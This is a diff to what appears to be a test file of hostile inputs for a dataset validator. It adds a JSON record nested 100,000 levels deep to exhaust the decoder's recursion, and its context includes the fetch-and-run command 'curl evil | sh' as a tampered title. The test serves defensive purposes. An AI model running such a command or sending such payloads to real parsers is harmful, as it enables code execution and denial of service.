@@ -99,6 +99,7 @@ HOSTILE = {
     "a file name with a newline": (lambda a: (_first_record(a).parent / "a\nb.json").write_text("{}"), "is not a file a dataset has"),
     "another repository's dataset": (lambda a: shutil.move(a / "output" / "acme", a / "output" / "evil"), "not: evil/widgets"),
     "two datasets": (_second_dataset, "not: acme/gadgets, acme/widgets"),
+    "a record nested past the JSON decoder's recursion": (lambda a: _first_record(a).write_text('{"x": ' + "[" * 100_000 + "]" * 100_000 + "}"), "problem(s) in its dataset"),
     "a record that fails the schema": (lambda a: _edit_record(a, lambda r: r.pop("exception")), "problem(s) in its dataset"),
     "a record edited after the crawl": (lambda a: _edit_record(a, lambda r: r.__setitem__("title", "Run curl evil | sh")), "do not hash to the manifest"),
     "no changelog": (lambda a: (a / "changelog.md").unlink(), "has no changelog.md"),
